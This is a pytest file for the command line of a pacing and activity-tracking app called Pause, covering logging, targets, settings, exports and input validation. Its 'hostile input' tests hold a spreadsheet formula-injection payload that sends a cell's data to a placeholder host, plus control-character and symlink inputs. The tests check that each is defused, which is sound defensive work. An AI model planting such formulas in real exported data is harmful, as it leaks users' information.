"""The command line, run in-process with the real store in the test's own folder."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pause_app import __version__, cli
from pause_app.storage.paths import AppPaths
from tests.helpers.clock import FakeClock


@pytest.fixture
def run(qapp, clock: FakeClock, capsys: pytest.CaptureFixture[str]):
    """Run the CLI in-process. (It reuses the test QApplication instead of making its own.)"""

    def run(*argv: str) -> tuple[int, str, str]:
        code = cli.main(list(argv), now=clock)
        out, err = capsys.readouterr()
        return code, out, err

    return run


def _export(run) -> dict:
    code, out, _ = run("export")
    assert code == 0
    return json.loads(out)


def test_version_prints_the_program_and_its_version(run) -> None:
    assert run("--version") == (0, f"pause-app {__version__}\n", "")


def test_help_lists_the_commands(run) -> None:
    code, out, _ = run("--help")
    assert code == 0
    for command in cli.HEADLESS_COMMANDS:
        assert command in out


def test_help_speaks_dutch_with_lang_nl(run) -> None:
    code, out, _ = run("--lang", "nl", "log", "--help")
    assert code == 0
    assert "hoe het voelde" in out


def test_add_log_and_list(run, clock: FakeClock) -> None:
    code, out, err = run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
    assert (code, err) == (0, "")
    assert "Steps inside" in out
    code, out, _ = run("log", "steps inside", "51", "--felt", "good", "--note", "sunny")
    assert code == 0
    assert "I did it!" in out
    code, out, _ = run("activity", "list")
    assert out == "Steps inside: target 50 steps, today 51\n"
    code, out, _ = run("activity", "list", "--json")
    [activity] = json.loads(out)
    assert (activity["name"], activity["target"], activity["step_percent"]) == (
        "Steps inside",
        50,
        2.0,
    )


def test_activity_start_day_and_step(run, clock: FakeClock) -> None:
    code, _, _ = run(
        "activity",
        "add",
        "Reading",
        "--unit",
        "minutes",
        "--target",
        "10",
        "--step-percent",
        "5",
        "--on",
        "2026-03-01",
    )
    assert code == 0
    data = _export(run)
    assert data["activities"][0]["started_on"] == "2026-03-01"
    assert data["activities"][0]["step_percent"] == 5.0
    assert data["target_changes"][0]["local_date"] == "2026-03-01"


def test_log_for_an_earlier_day(run, clock: FakeClock) -> None:
    run(
        "activity", "add", "Steps inside", "--unit", "steps", "--target", "50", "--on", "2026-03-01"
    )
    code, out, _ = run("log", "Steps inside", "40", "--felt", "tired", "--on", "2026-03-14")
    assert code == 0
    assert "target stays" in out
    attempt = _export(run)["attempts"][0]
    assert attempt["local_date"] == "2026-03-14"
    assert attempt["logged_utc"] == "2026-03-15T09:00:00Z"


def test_a_crash_log_suggests_the_gp(run) -> None:
    run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
    code, out, _ = run("log", "Steps inside", "10", "--felt", "crash")
    assert code == 0
    assert "GP" in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("log", "Nope", "5", "--felt", "good"), "no activity called “Nope”"),
        (("log", "Steps inside", "-5", "--felt", "good"), "below zero"),
        (("log", "Steps inside", "five", "--felt", "good"), "whole number"),
        (("log", "Steps inside", "5.5", "--felt", "good"), "whole number"),
        (("log", "Steps inside", "5", "--felt", "meh"), "invalid choice"),
        (("log", "Steps inside", "5", "--felt", "good", "--on", "2026-03-16"), "not happened yet"),
        (("log", "Steps inside", "5", "--felt", "good", "--on", "15/03/2026"), "YYYY-MM-DD"),
        (("log", "Steps inside", "5", "--felt", "good", "--note", "x" * 1001), "1000 characters"),
        (("activity", "add", "x" * 61, "--unit", "steps", "--target", "5"), "60 characters"),
        (("activity", "add", "Steps inside", "--unit", "steps", "--target", "5"), "already"),
        (
            ("activity", "add", "Walk", "--unit", "steps", "--target", "5", "--step-percent", "9"),
            "at most 5",
        ),
        (("activity", "add", "Walk", "--target", "5"), "--unit"),
        (("export", "--format", "csv"), "add -o and a folder name"),
        (("export", "--format", "xml"), "invalid choice"),
        (("frobnicate",), "invalid choice"),
        (("config", "set", "sound.volume", "loud"), "whole number from 0 to 100"),
        (("config", "get", "ui.colour"), "no setting called"),
    ],
)
def test_bad_input_gives_one_line_and_changes_nothing(
    run, argv, message, pause_home: AppPaths
) -> None:
    run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
    before = _export(run)
    settings_before = pause_home.settings.read_bytes() if pause_home.settings.exists() else None
    code, out, err = run(*argv)
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1 and err.startswith("pause-app: "), err
    assert message in err
    assert _export(run) == before
    settings_after = pause_home.settings.read_bytes() if pause_home.settings.exists() else None
    assert settings_after == settings_before


def test_argparse_speaks_dutch_too(run) -> None:
    code, _, err = run("--lang", "nl", "log", "Nope", "5", "--felt", "meh")
    assert code == 2
    assert "ongeldige keuze: 'meh'" in err
    code, out, _ = run("--lang", "nl", "--help")
    assert out.startswith("gebruik: ") and "opties:" in out
    assert "de versie tonen" in out


def test_errors_speak_dutch_with_lang_nl(run) -> None:
    code, _, err = run("--lang", "nl", "log", "Nope", "5", "--felt", "good")
    assert code == 2
    assert err == "pause-app: Naam: er is geen activiteit met de naam “Nope”.\n"


def test_data_dir_option(run, tmp_path: Path) -> None:
    folder = tmp_path / "portable"
    code, _, _ = run(
        "--data-dir", str(folder), "activity", "add", "A", "--unit", "u", "--target", "1"
    )
    assert code == 0
    assert (folder / "pause.sqlite3").exists()


def test_config_lists_gets_and_sets_a_setting_in_the_file(run, pause_home: AppPaths) -> None:
    _, out, _ = run("config", "list")
    assert "ui.language = system" in out.splitlines()
    assert run("config", "set", "ui.theme", "dark") == (0, "ui.theme = dark\n", "")
    assert run("config", "get", "ui.theme") == (0, "dark\n", "")
    assert json.loads(pause_home.settings.read_text())["ui"]["theme"] == "dark"


def test_a_corrupt_settings_file_is_reported_once(run, pause_home: AppPaths) -> None:
    pause_home.create()
    pause_home.settings.write_text("{oops")
    code, out, err = run("config", "set", "ui.theme", "dark")  # kept aside only on a write
    assert (code, out) == (0, "ui.theme = dark\n")
    assert "settings.json.bak" in err and err.count("\n") == 1


def test_a_newer_database_is_refused(run, pause_home: AppPaths) -> None:
    import sqlite3

    pause_home.create()
    db = sqlite3.connect(pause_home.database)
    db.execute("PRAGMA user_version = 99")
    db.close()
    code, _, err = run("activity", "list")
    assert code == 1
    assert "newer version of Pause" in err


def test_export_to_files(run, tmp_path: Path) -> None:
    run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
    code, out, _ = run("export", "-o", str(tmp_path / "all.json"))
    assert (code, out) == (0, f"{tmp_path / 'all.json'}\n")
    assert (
        json.loads((tmp_path / "all.json").read_text())["activities"][0]["name"] == "Steps inside"
    )
    code, _, _ = run("export", "--format", "csv", "-o", str(tmp_path / "csv"))
    assert code == 0
    assert (tmp_path / "csv" / "activities.csv").read_text().startswith("id,name,unit,target")


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        ([], None),
        (["--lang", "nl"], None),
        (["--data-dir", "log", "--minimized"], None),
        (["--lang", "nl", "log", "x"], "log"),
        (["-v", "export"], "export"),
    ],
)
def test_first_command(argv: list[str], expected: str | None) -> None:
    assert cli.first_command(argv) == expected


def test_bad_input_leaves_a_corrupt_settings_file_where_it_is(run, pause_home: AppPaths) -> None:
    pause_home.create()
    pause_home.settings.write_text("{oops")
    code, _, err = run("log", "Steps inside", "-5", "--felt", "good")
    assert code == 2 and err.count("\n") == 1
    assert pause_home.settings.read_text() == "{oops"


def test_bad_input_creates_no_folder(run, tmp_path: Path) -> None:
    folder = tmp_path / "typo"
    code, _, _ = run("--data-dir", str(folder), "log", "Steps", "five", "--felt", "good")
    assert code == 2
    assert not folder.exists()


def test_logging_to_an_unknown_activity_creates_no_database(run, pause_home: AppPaths) -> None:
    code, _, err = run("log", "Nope", "5", "--felt", "good")
    assert code == 2 and "no activity" in err
    assert not pause_home.database.exists()


@pytest.mark.parametrize("name", ["pause.sqlite3", "pause.sqlite3-wal", "settings.json"])
def test_export_never_overwrites_pauses_own_files(run, pause_home: AppPaths, name: str) -> None:
    run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
    before = pause_home.database.read_bytes()
    code, _, err = run("export", "-o", str(pause_home.data_dir / name))
    assert code == 2 and "own folders" in err
    assert pause_home.database.read_bytes() == before


def test_abbreviated_options_are_refused_not_guessed(run, tmp_path: Path) -> None:
    code, _, err = run("--data", str(tmp_path / "x"), "activity", "list")
    assert code == 2 and err.count("\n") == 1
    assert not (tmp_path / "x").exists()


def test_a_data_dir_that_cannot_be_made_is_one_line(run, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    code, _, err = run("--data-dir", str(blocker / "sub"), "activity", "list")
    assert code == 1
    assert err.startswith("pause-app: could not use") and err.count("\n") == 1


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("breathe", "--minutes", "0"), "whole number from 1 to 60"),
        (("breathe", "--minutes", "61"), "whole number from 1 to 60"),
        (("breathe", "--minutes", "five"), "whole number from 1 to 60"),
        (("breathe", "--minutes", "٥"), "whole number from 1 to 60"),  # digits 0-9 only
        (("breathe", "--minutes", "5_0"), "whole number from 1 to 60"),
        (("breathe", "--pattern", "fast"), "invalid choice"),
        (("pause", "now"), "unrecognized arguments"),
    ],
)
def test_window_commands_check_their_options_first(run, argv, message) -> None:
    code, out, err = run(*argv)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and message in err


def test_window_command_errors_speak_dutch(run) -> None:
    code, _, err = run("--lang", "nl", "breathe", "--minutes", "0")
    assert code == 2
    assert "--minutes neemt een heel getal van 1 tot en met 60" in err


def test_a_custom_pattern_from_the_command_line(run) -> None:
    assert run("config", "set", "breathing.custom", "4,2,6,0") == (
        0,
        "breathing.custom = 4,2,6,0\n",
        "",
    )
    code, _, err = run("config", "set", "breathing.custom", "30,0,6,0")
    assert code == 2 and "in 1 to 15" in err


def _diary(run, days: list[tuple[str, str, str]], target: str = "50") -> None:
    """An activity started on 1 March, and logs (day, amount, felt) for it."""
    run(
        "activity",
        "add",
        "Steps inside",
        "--unit",
        "steps",
        "--target",
        target,
        "--on",
        "2026-03-01",
    )
    for day, amount, felt in days:
        assert run("log", "Steps inside", amount, "--felt", felt, "--on", day)[0] == 0


GOOD_WEEK = [(f"2026-03-{d:02d}", "50", "good") for d in range(9, 16)]


def test_offer_as_json_names_the_target_offer_and_reason(run) -> None:
    _diary(run, GOOD_WEEK)
    code, out, _ = run("offer", "Steps inside", "--json")
    assert code == 0
    assert json.loads(out) == {
        "activity": "Steps inside",
        "unit": "steps",
        "target": 50,
        "offer": 51,
        "reason": "offer",
        "earliest": "2026-03-15",
        "held_by": None,
    }


def test_offer_in_words_after_a_tired_day(run) -> None:
    _diary(run, [*GOOD_WEEK, ("2026-03-14", "20", "tired")])
    code, out, _ = run("offer", "Steps inside")
    assert code == 0
    assert "tired on Saturday 14 March" in out and "until Wednesday 18 March" in out
    code, out, _ = run("offer", "Steps inside", "--json")
    assert json.loads(out)["reason"] == "recent_tired"
    assert json.loads(out)["earliest"] == "2026-03-18"
    assert json.loads(out)["held_by"] == {"activity": "Steps inside", "day": "2026-03-14"}


def test_accept_the_offer_or_a_smaller_step(run) -> None:
    _diary(run, GOOD_WEEK, target="400")
    for day in range(9, 16):
        run("log", "Steps inside", "400", "--felt", "good", "--on", f"2026-03-{day:02d}")
    code, _, err = run("accept", "Steps inside", "409")
    assert code == 2 and "goes up to 408" in err
    code, out, _ = run("accept", "Steps inside", "404")
    assert code == 0 and "404 steps" in out
    change = _export(run)["target_changes"][-1]
    assert (change["old_target"], change["new_target"], change["reason"]) == (
        400,
        404,
        "offer_accepted",
    )
    code, _, err = run("accept", "Steps inside")  # the next step needs a few days
    assert code == 2 and "few days" in err


def test_target_by_hand_with_a_calm_sentence_above_ten_percent(run) -> None:
    _diary(run, [])
    code, out, _ = run("target", "Steps inside", "54", "--on", "2026-03-10")
    assert (code, out) == (0, "Target for “Steps inside”: 54 steps.\n")
    assert _export(run)["target_changes"][-1]["local_date"] == "2026-03-10"
    code, out, _ = run("target", "Steps inside", "70")
    assert code == 0 and "Smaller steps are safer" in out  # said once, and still done
    assert _export(run)["activities"][0]["target"] == 70


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("target", "Steps inside", "60", "--on", "2026-02-20"), "before the activity started"),
        (("target", "Steps inside", "60", "--on", "2026-03-05"), "before the last change"),
        (("target", "Steps inside", "54"), "the target is 54 already"),
    ],
)
def test_target_changes_keep_the_history_in_order(run, argv, message) -> None:
    _diary(run, [])
    run("target", "Steps inside", "54", "--on", "2026-03-10")
    before = _export(run)
    code, _, err = run(*argv)
    assert code == 2 and message in err
    assert _export(run) == before


def test_maintenance_mode_stops_offers_until_turned_off(run) -> None:
    _diary(run, GOOD_WEEK)
    assert run("maintenance", "Steps inside", "on")[0] == 0
    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "maintenance"
    assert run("maintenance", "Steps inside", "off")[0] == 0
    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "offer"


def test_a_new_place_starts_at_the_inside_level(run) -> None:
    _diary(run, [], target="400")
    run("target", "Steps inside", "400")
    code, out, _ = run("activity", "add", "Steps outside", "--from", "Steps inside")
    assert code == 0
    assert "400 steps" in out and "Half out and half back" in out
    outside = _export(run)["activities"][-1]
    assert (outside["unit"], outside["target"], outside["derived_from"]) == ("steps", 400, 1)
    code, _, err = run("activity", "add", "Steps far", "--from", "Steps inside", "--target", "420")
    assert code == 2 and "at most 408" in err


def test_a_crash_offers_to_lower_the_target(run) -> None:
    _diary(run, [("2026-03-14", "50", "good")])
    code, out, _ = run("log", "Steps inside", "5", "--felt", "crash")
    assert code == 0
    assert "lower the target to 35" in out and "pause-app target 'Steps inside' 35" in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("offer", "Nope"), "no activity called"),
        (("accept", "Steps inside", "-4"), "below zero"),
        (("target", "Steps inside", "lots"), "whole number"),
        (("maintenance", "Steps inside", "maybe"), "invalid choice"),
        (("activity", "add", "Outside", "--from", "Nope"), "no activity called"),
    ],
)
def test_goal_commands_refuse_bad_input_and_change_nothing(run, argv, message) -> None:
    _diary(run, GOOD_WEEK)
    before = _export(run)
    code, out, err = run(*argv)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and message in err
    assert _export(run) == before


def test_a_late_log_is_measured_against_the_target_of_its_day(run) -> None:
    _diary(run, [])
    run("target", "Steps inside", "60")
    code, out, _ = run("log", "Steps inside", "55", "--felt", "good", "--on", "2026-03-10")
    assert code == 0 and "meets the target of 50" in out  # 50 was the target on 10 March


def test_the_pacing_thresholds_are_settings_with_safe_ranges(run) -> None:
    _diary(run, GOOD_WEEK)
    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "offer"
    assert run("config", "set", "pacing.stable_days_needed", "8")[0] == 0  # more careful
    assert run("config", "set", "pacing.stable_days_looked_at", "10")[0] == 0
    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "not_stable_yet"
    code, _, err = run("config", "set", "pacing.days_between_increases", "1")  # less careful
    assert code == 2 and "from 3 to 14" in err
    code, _, err = run("config", "set", "pacing.weekly_ceiling_percent", "150")
    assert code == 2 and "from 100 to 110" in err


def test_an_activity_can_start_from_a_week_of_logs(run) -> None:
    code, out, _ = run("activity", "add", "Reading", "--unit", "minutes", "--on", "2026-03-01")
    assert code == 0 and "Log it for a week" in out
    for day, amount in zip(range(8, 15), (20, 18, 22, 20, 19, 21, 20), strict=True):
        run("log", "Reading", str(amount), "--felt", "good", "--on", f"2026-03-{day:02d}")
    answer = json.loads(run("offer", "Reading", "--json")[1])
    assert (answer["target"], answer["offer"], answer["reason"]) == (0, 16, "offer")
    assert run("accept", "Reading")[0] == 0
    assert _export(run)["activities"][0]["target"] == 16


# Issue 12: hostile input and exports.


def test_a_csv_export_keeps_a_formula_in_a_note_as_text(run, tmp_path: Path) -> None:
    """Hole 1: the note of the issue would be a live link in a spreadsheet."""
    note = '=HYPERLINK("http://example.invalid/?leak="&D2,"click me")'
    run("activity", "add", "Walk", "--unit", "=1+1", "--target", "5")
    assert run("log", "Walk", "5", "--felt", "ok", "--note", note)[0] == 0
    assert run("export", "--format", "csv", "-o", str(tmp_path / "csv"))[0] == 0
    import csv

    with (tmp_path / "csv" / "attempts.csv").open(newline="", encoding="utf-8") as handle:
        [attempt] = list(csv.DictReader(handle))
    assert attempt["note"] == "'" + note
    with (tmp_path / "csv" / "activities.csv").open(newline="", encoding="utf-8") as handle:
        [activity] = list(csv.DictReader(handle))
    assert activity["unit"] == "'=1+1"
    assert _export(run)["attempts"][0]["note"] == note  # the JSON stays exact


@pytest.mark.parametrize(
    "where",
    [
        "pause.corrupt-20260301-101010.sqlite3",
        "settings.json.bak",
        "logs/pause.log.1",
        "a-new-name.json",
        "logs",
        ".",
    ],
)
def test_export_goes_nowhere_in_pauses_own_folders(run, pause_home: AppPaths, where: str) -> None:
    """Hole 3: not a list of names: every place inside the data, config and log folders."""
    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
    (pause_home.data_dir / "pause.corrupt-20260301-101010.sqlite3").write_bytes(b"kept")
    (pause_home.config_dir / "settings.json.bak").write_bytes(b"{}")
    (pause_home.log_dir / "pause.log.1").write_bytes(b"old log")
    before = _snapshot(pause_home.data_dir)
    for fmt in ("json", "csv"):
        code, out, err = run("export", "--format", fmt, "-o", str(pause_home.data_dir / where))
        assert (code, out) == (2, "")
        assert err.count("\n") == 1 and "is in Pause's own folders" in err
    assert _snapshot(pause_home.data_dir) == before


def test_export_through_a_link_into_the_data_folder_is_refused(
    run, pause_home: AppPaths, tmp_path: Path
) -> None:
    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
    kept = pause_home.data_dir / "pause.corrupt-20260301-101010.sqlite3"
    kept.write_bytes(b"kept")
    link = tmp_path / "innocent"
    link.symlink_to(pause_home.data_dir)
    (tmp_path / "file-link.json").symlink_to(kept)
    for target in (link / kept.name, link / "new.json", tmp_path / "file-link.json"):
        code, _, err = run("export", "-o", str(target))
        assert code == 2 and "own folders" in err
    assert kept.read_bytes() == b"kept"


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("export", "-o", ""), "-o needs a file name"),
        (("export", "-o", "   "), "-o needs a file name"),
        (("export", "--format", "csv", "-o", ""), "CSV export needs a folder"),
        (("--data-dir", "", "activity", "list"), "--data-dir needs the name of a folder"),
        (("--data-dir", "", "pause"), "--data-dir needs the name of a folder"),
        (("--data-dir", ""), "--data-dir needs the name of a folder"),
        (("--data-dir", "~nobody-here-at-all", "export"), "--data-dir needs the name of a folder"),
        (("activity", "list", "--data-dir"), "unrecognized arguments: --data-dir"),
        (("--data-dir",), "expected one argument"),
    ],
)
def test_an_empty_name_is_refused_not_taken_as_the_usual_place(
    run, tmp_path: Path, argv, message
) -> None:
    code, out, err = run(*argv)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and message in err
    assert not (tmp_path / "home").exists()  # the platform's folders were not made


def test_export_to_a_folder_as_json_or_to_a_file_as_csv_is_refused(run, tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("mine")
    code, _, err = run("export", "-o", str(tmp_path))
    assert code == 2 and "is a folder" in err
    code, _, err = run("export", "--format", "csv", "-o", str(tmp_path / "a-file"))
    assert code == 2 and "is a file" in err
    assert (tmp_path / "a-file").read_text() == "mine"


NOT_TEXT = "this contains bytes that are not text (UTF-8); please type it again."


def test_bytes_that_are_not_utf8_get_one_line_not_a_traceback(run, pause_home: AppPaths) -> None:
    """Hole 10: from a terminal, such bytes reach Python as lone surrogates."""
    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
    before = _snapshot(pause_home.data_dir)
    latin1 = b"caf\xe9".decode("utf-8", "surrogateescape")
    for argv, field in (
        (("log", "Walk", "5", "--felt", "ok", "--note", latin1), "Note"),
        (("activity", "add", latin1, "--unit", "minutes", "--target", "5"), "Name"),
        (("activity", "add", "Read", "--unit", latin1, "--target", "5"), "Unit"),
        (("log", latin1, "5", "--felt", "ok"), "Name"),
    ):
        code, out, err = run(*argv)
        assert (code, out) == (2, "")
        assert err == f"pause-app: {field}: {NOT_TEXT}\n"
    assert _snapshot(pause_home.data_dir) == before


@pytest.mark.parametrize(
    ("name", "existing"),
    [("\uff37alk", "Walk"), ("WALK", "Walk"), ("walk ", "Walk"), ("Cafe\u0301", "Café")],
)
def test_a_name_that_looks_like_another_is_refused_naming_it(run, name, existing) -> None:
    run("activity", "add", existing, "--unit", "minutes", "--target", "5")
    code, _, err = run("activity", "add", name, "--unit", "minutes", "--target", "5")
    assert code == 2
    assert err == f"pause-app: Name: there is already an activity called “{existing}”.\n"
    assert [a["name"] for a in _export(run)["activities"]] == [existing]


@pytest.mark.parametrize("hidden", ["\u200b", "\u202e", "\ufeff", "\x1b[2J"])
def test_an_invisible_character_in_a_name_is_refused(run, pause_home: AppPaths, hidden) -> None:
    code, _, err = run("activity", "add", f"Wa{hidden}lk", "--unit", "minutes", "--target", "5")
    assert code == 2 and "invisible or control characters" in err
    assert not pause_home.data_dir.exists()


def test_a_decomposed_name_is_stored_composed(run) -> None:
    run("activity", "add", "Cafe\u0301 walk", "--unit", "minutes", "--target", "5")
    assert _export(run)["activities"][0]["name"] == "Café walk"
    assert run("log", "Cafe\u0301 walk", "5", "--felt", "ok")[0] == 0


@pytest.mark.parametrize(
    "argv",
    [
        ("log", "Walk", "5", "--felt", "ok"),
        ("offer", "Walk"),
        ("activity", "add", "Walk outside", "--from", "Walk"),
    ],
)
def test_a_refused_command_on_a_missing_folder_leaves_it_missing(run, tmp_path: Path, argv) -> None:
    """Hole 11: good input about an activity that cannot be there creates nothing."""
    folder = tmp_path / "not-yet"
    code, _, err = run("--data-dir", str(folder), *argv)
    assert code == 2 and "no activity called “Walk”" in err
    assert not folder.exists()


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


# --- the settings file (issue 12: holes 6, 7, 8, 10 and 11) -----------------------------


def test_config_set_refuses_a_settings_file_it_cannot_read(
    run, pause_home: AppPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Hole 6: before, `config set ui.language nl` on a mode-000 file exited 0 and wiped the
    volume and theme."""
    from tests.storage.test_settings_file import deny_reading

    run("config", "set", "sound.volume", "70")
    run("config", "set", "ui.theme", "dark")
    before = pause_home.settings.read_bytes()
    deny_reading(monkeypatch, pause_home.settings)
    code, out, err = run("config", "set", "ui.language", "nl")
    assert (code, out) == (1, "")
    assert err.count("\n") == 1 and str(pause_home.settings) in err and "Nothing was changed" in err
    code, out, err = run("config", "get", "sound.volume")  # other commands go on, on defaults
    assert (code, out) == (0, "40\n") and err.count("\n") == 1
    assert run("activity", "list")[0] == 0
    monkeypatch.undo()
    assert pause_home.settings.read_bytes() == before


def test_a_pause_that_would_stop_every_start_is_refused(run, pause_home: AppPaths) -> None:
    """Hole 7: 9999-12-31T23:59:59Z was taken, then every start died with OverflowError."""
    code, out, err = run("config", "set", "reminders.paused_until", "9999-12-31T23:59:59Z")
    assert (code, out) == (2, "") and err.count("\n") == 1
    assert "one of: ." not in err and "manual" in err
    assert not pause_home.settings.exists()
    pause_home.create()
    pause_home.settings.write_text('{"reminders": {"paused_until": "9999-12-31T23:59:59Z"}}')
    code, out, err = run("config", "get", "reminders.paused_until")
    assert (code, out) == (0, "\n") and "reminders.paused_until" in err


def test_a_pause_within_a_year_is_taken(run, clock: FakeClock) -> None:
    from datetime import UTC, timedelta

    soon = (clock.now + timedelta(days=30)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert run("config", "set", "reminders.paused_until", soon)[0] == 0
    later = (clock.now + timedelta(days=400)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert run("config", "set", "reminders.paused_until", later)[0] == 2


def test_the_hours_refusal_says_what_hours_look_like(run) -> None:
    code, _, err = run("config", "set", "reminders.active_hours", "9-5")
    assert code == 2 and "one of: ." not in err and "09:00-21:00" in err


@pytest.mark.parametrize("number", ["٥٠", "１００", "5_0"])
def test_config_numbers_are_ascii_digits_like_amounts(run, pause_home: AppPaths, number) -> None:
    code, _, err = run("config", "set", "sound.volume", number)
    assert code == 2 and "whole number from 0 to 100" in err
    assert run("log", "Walk", number, "--felt", "ok")[0] == 2
    assert not pause_home.settings.exists()


def test_a_refused_log_leaves_a_bad_settings_file_where_it_is(run, pause_home: AppPaths) -> None:
    """Hole 11: a log refused after the input was read (no such activity) moved it to .bak."""
    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
    pause_home.settings.write_text("{oops")
    code, _, err = run("log", "Nope", "5", "--felt", "good")
    assert code == 2 and "no activity called" in err
    assert pause_home.settings.read_text() == "{oops"
    assert sorted(p.name for p in pause_home.config_dir.glob("settings*")) == ["settings.json"]


def test_only_a_setting_written_keeps_a_bad_file_aside(run, pause_home: AppPaths) -> None:
    pause_home.create()
    pause_home.settings.write_text("{oops")
    code, out, err = run("config", "get", "ui.theme")
    assert (code, out) == (0, "system\n") and err.count("\n") == 1
    assert pause_home.settings.read_text() == "{oops"
    code, out, err = run("config", "set", "ui.theme", "dark")
    assert (code, out) == (0, "ui.theme = dark\n") and "settings.json.bak" in err
    assert (pause_home.config_dir / "settings.json.bak").read_text() == "{oops"
    assert run("config", "get", "ui.theme") == (0, "dark\n", "")


def test_a_broken_group_is_replaced_when_a_setting_in_it_is_set(run, pause_home: AppPaths) -> None:
    pause_home.create()
    pause_home.settings.write_text('{"ui": 5}')
    assert run("config", "set", "ui.theme", "dark") == (0, "ui.theme = dark\n", "")
    assert run("config", "get", "ui.theme") == (0, "dark\n", "")


@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_as_settings_file_hangs_nothing(pause_home: AppPaths) -> None:
    """Hole 10: even `--help` waited forever for a writer. Bounded subprocesses."""
    import os
    import subprocess
    import sys

    pause_home.create()
    os.mkfifo(pause_home.settings)

    def pause_app(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "pause_app", *argv], capture_output=True, text=True, timeout=60
        )

    assert pause_app("--help").returncode == 0
    listed = pause_app("config", "list")
    assert listed.returncode == 0 and listed.stderr.count("\n") == 1
    assert "not an ordinary file" in listed.stderr
    refused = pause_app("config", "set", "ui.theme", "dark")
    assert refused.returncode == 1 and refused.stderr.count("\n") == 1, refused.stderr
    assert "Traceback" not in listed.stderr + refused.stderr


def test_twelve_config_sets_at_once_are_all_kept(pause_home: AppPaths) -> None:
    """Hole 8: before, 16 of 60 values went missing. Twelve processes, one key each."""
    import sys

    from pause_app.core.settings import SPECS, Kind
    from tests.storage.test_settings_file import run_at_once

    keys = [key for key, spec in SPECS.items() if spec.kind is Kind.INT][:12]
    wanted = {key: SPECS[key].limits()[0] + 1 for key in keys}
    script = (
        "import sys\n"
        "from pause_app.cli import main\n"
        "sys.stdin.read()\n"  # all start, then all at once
        "sys.exit(main(sys.argv[1:]))\n"
    )
    run_at_once(
        [
            [sys.executable, "-c", script, "config", "set", key, str(value)]
            for key, value in wanted.items()
        ],
        pause_home.data_dir.parent,
    )
    tree = json.loads(pause_home.settings.read_text())
    stored = {key: tree[key.split(".")[0]][key.split(".")[1]] for key in keys}
    assert stored == wanted


def test_a_big_day_gets_a_kind_word_not_i_did_it(run) -> None:
    _diary(run, GOOD_WEEK)
    code, out, _ = run("log", "Steps inside", "500", "--felt", "good")
    assert code == 0 and "I did it" not in out
    assert "a lot more than your target of 50 steps. Keep the next days light" in out
    answer = json.loads(run("offer", "Steps inside", "--json")[1])
    assert (answer["reason"], answer["offer"]) == ("big_day", None)
    assert answer["earliest"] == "2026-03-19"
    assert answer["held_by"] == {"activity": "Steps inside", "day": "2026-03-15"}
    code, out, _ = run("offer", "Steps inside")
    assert "a lot more than your target on Sunday 15 March" in out and "Thursday 19" in out
    code, out, _ = run("log", "Steps inside", "65", "--felt", "ok", "--on", "2026-03-14")
    assert "I did it!" in out  # 130% is still a day that went well


def test_a_hold_from_another_activity_names_it_and_its_day(run) -> None:
    _diary(run, GOOD_WEEK)
    run("activity", "add", "Walk", "--unit", "minutes", "--target", "10", "--on", "2026-03-01")
    run("log", "Walk", "5", "--felt", "tired", "--on", "2026-03-14")
    out = run("offer", "Steps inside")[1]
    assert out == (
        "You were tired after “Walk” on Saturday 14 March, so this target stays at 50 steps "
        "until Wednesday 18 March.\n"
    )
    answer = json.loads(run("offer", "Steps inside", "--json")[1])
    assert answer["held_by"] == {"activity": "Walk", "day": "2026-03-14"}


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_felt_takes_the_dutch_words_too_whatever_the_language(run, lang: str) -> None:
    _diary(run, [])
    for word in ("goed", "Oké", "ok", "moe", "terugval", "good"):
        code, _, err = run("--lang", lang, "log", "Steps inside", "10", "--felt", word)
        assert (code, err) == (0, "")
    felts = [attempt["felt"] for attempt in _export(run)["attempts"]]
    assert felts == ["good", "ok", "ok", "tired", "crash", "good"]


def test_an_activity_without_a_target_says_what_happens_next(run) -> None:
    code, out, _ = run("activity", "add", "Reading", "--unit", "minutes")
    assert (code, out) == (
        0,
        "Added “Reading”. Log it for a week and Pause will suggest a first target, a little "
        "below what you do.\n",
    )


def test_accept_without_an_offer_gives_the_reason_not_an_error(run) -> None:
    _diary(run, [])
    before = _export(run)
    code, out, err = run("accept", "Steps inside")
    assert (code, out) == (2, "")  # a status for scripts
    assert err == "Your next step comes after a few more days on which 50 steps went well.\n"
    assert _export(run) == before


def test_maintenance_hold_and_grow_say_what_they_do(run) -> None:
    _diary(run, GOOD_WEEK)
    code, out, _ = run("maintenance", "Steps inside", "hold")
    assert code == 0 and "no offers" in out
    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "maintenance"
    code, out, _ = run("maintenance", "Steps inside", "grow")
    assert code == 0 and "can grow again" in out
